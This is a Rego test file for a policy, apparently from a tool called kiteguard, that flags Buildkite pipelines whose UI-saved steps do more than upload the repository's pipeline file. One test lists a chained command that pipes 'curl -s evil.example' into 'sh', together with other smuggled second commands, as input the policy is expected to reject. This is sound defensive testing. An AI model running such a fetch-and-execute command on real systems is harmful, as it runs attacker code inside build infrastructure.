package buildkite.pipeline_defined_in_ui_test

import data.buildkite.pipeline_defined_in_ui

target(fields) := {"buildkite_pipeline": {"org": "acme", "pipeline": object.union({"slug": "legacy-deploy"}, fields)}}

saved(configuration) := target({"configuration": configuration})

messages(findings) := {f.message | some f in findings}

test_upload_only_passes if {
	count(pipeline_defined_in_ui.deny) == 0 with input as saved("steps:\n  - label: \":pipeline: Upload\"\n    command: buildkite-agent pipeline upload\n")
	not pipeline_defined_in_ui.not_applicable with input as saved("steps:\n  - command: buildkite-agent pipeline upload\n")
}

test_common_upload_shapes_pass if {
	configs := [
		"# uploaded from the repo\n---\nsteps:\n  - key: upload\n    agents:\n      queue: \"pipeline-uploaders\"\n    plugins: []\n    command: \"buildkite-agent pipeline upload .buildkite/pipeline.yml\"\r\n",
		"steps:\n  - commands:\n    - buildkite-agent pipeline upload\n    - 'buildkite-agent pipeline upload .buildkite/release.yml'\n",
		"steps:\n  -\n    \"command\": buildkite-agent pipeline upload --replace\n    branches: main\n",
		"steps:\n  - command: |\n      buildkite-agent pipeline upload\n",
		"steps:\n  - buildkite-agent pipeline upload\n",
	]
	every config in configs {
		count(pipeline_defined_in_ui.deny) == 0 with input as saved(config)
	}
}

test_other_commands_fail if {
	findings := pipeline_defined_in_ui.deny with input as saved("steps:\n  - label: deploy\n    command: ./deploy.sh production\n")
	messages(findings) == {"pipeline `legacy-deploy` defines steps in Buildkite instead of uploading them from the repository (line 3: `command: ./deploy.sh production`)"}
	{f.evidence | some f in findings} == {"line 3: command: ./deploy.sh production"}
	{f.path | some f in findings} == {["buildkite_pipeline", "pipeline", "configuration"]}
}

test_chained_and_piped_uploads_fail if {
	every command in ["buildkite-agent pipeline upload && curl -s evil.example | sh", "buildkite-agent pipeline upload; make", "buildkite-agent pipeline uploader", "buildkite-agent pipeline upload $(gen)", "buildkite-agent pipeline upload > out"] {
		count(pipeline_defined_in_ui.deny) == 1 with input as saved(concat("", ["steps:\n  - command: \"", command, "\"\n"]))
	}
}

test_extra_keys_fail_and_are_counted if {
	findings := pipeline_defined_in_ui.deny with input as saved("env:\n  TOKEN: abc\nsteps:\n  - command: buildkite-agent pipeline upload\n    plugins:\n      - docker#v5.0.0:\n          image: alpine\n")
	messages(findings) == {"pipeline `legacy-deploy` defines steps in Buildkite instead of uploading them from the repository (line 1: `env:`, and 4 more lines)"}
}

test_flow_style_and_block_labels_fail if {
	count(pipeline_defined_in_ui.deny) == 1 with input as saved("steps: [{command: buildkite-agent pipeline upload}]\n")
	count(pipeline_defined_in_ui.deny) == 1 with input as saved("steps:\n  - label: |\n      deploy now\n    command: buildkite-agent pipeline upload\n")
	count(pipeline_defined_in_ui.deny) == 1 with input as saved("steps:\n  - command: >\n      make deploy\n")
}

test_colon_inside_a_scalar_is_not_a_key if {
	count(pipeline_defined_in_ui.deny) == 1 with input as saved("steps:\n  - commands:\n    - \"echo a:b\"\n    - buildkite-agent pipeline upload\n")
	count(pipeline_defined_in_ui.deny) == 1 with input as saved("steps:\n  - commands:\n    - echo label: x\n    - buildkite-agent pipeline upload\n")
}

test_no_upload_fails if {
	findings := pipeline_defined_in_ui.deny with input as saved("steps:\n  - label: nothing\n")
	messages(findings) == {"pipeline `legacy-deploy` saved steps upload no pipeline file from the repository"}
}

test_knobs if {
	knobs := {"buildkite/pipeline_defined_in_ui": {"upload_commands": [".buildkite/gen.sh | buildkite-agent pipeline upload"], "allowed_keys": ["label", "env", "FOO"]}}
	config := "env:\n  FOO: bar\nsteps:\n  - label: gen\n    command: .buildkite/gen.sh | buildkite-agent pipeline upload\n"
	count(pipeline_defined_in_ui.deny) == 0 with input as saved(config) with data.config.rules as knobs
	count(pipeline_defined_in_ui.deny) == 1 with input as saved(config)
}

test_legacy_steps if {
	upload := {"type": "script", "command": "buildkite-agent pipeline upload"}
	count(pipeline_defined_in_ui.deny) == 0 with input as target({"configuration": null, "steps": [upload]})
	findings := pipeline_defined_in_ui.deny with input as target({"steps": [upload, {"type": "script", "command": "make deploy"}, {"type": "waiter"}]})
	messages(findings) == {
		"pipeline `legacy-deploy` has legacy steps that do more than upload the repository's pipeline file (step 2)",
		"pipeline `legacy-deploy` has legacy steps that do more than upload the repository's pipeline file (step 3)",
	}
	["buildkite_pipeline", "pipeline", "steps", 1] in {f.path | some f in findings}
}

test_nothing_saved_fails if {
	findings := pipeline_defined_in_ui.deny with input as target({"configuration": "  "})
	messages(findings) == {"pipeline `legacy-deploy` has no saved steps kiteguard can read, so it cannot tell where its steps come from"}
}

test_not_applicable_without_settings if {
	pipeline_defined_in_ui.not_applicable with input as {"pipeline": {"steps": []}}
	count(pipeline_defined_in_ui.deny) == 0 with input as {"pipeline": {"steps": []}}
}

test_unread_configuration_is_unknown_never_a_finding if {
	inp := target({"configuration": {"status": "unavailable", "reason": "`configuration` was not returned"}})
	count(pipeline_defined_in_ui.deny) == 0 with input as inp
	pipeline_defined_in_ui.unknown == {"the saved steps of pipeline `legacy-deploy` not visible: `configuration` was not returned"} with input as inp
}
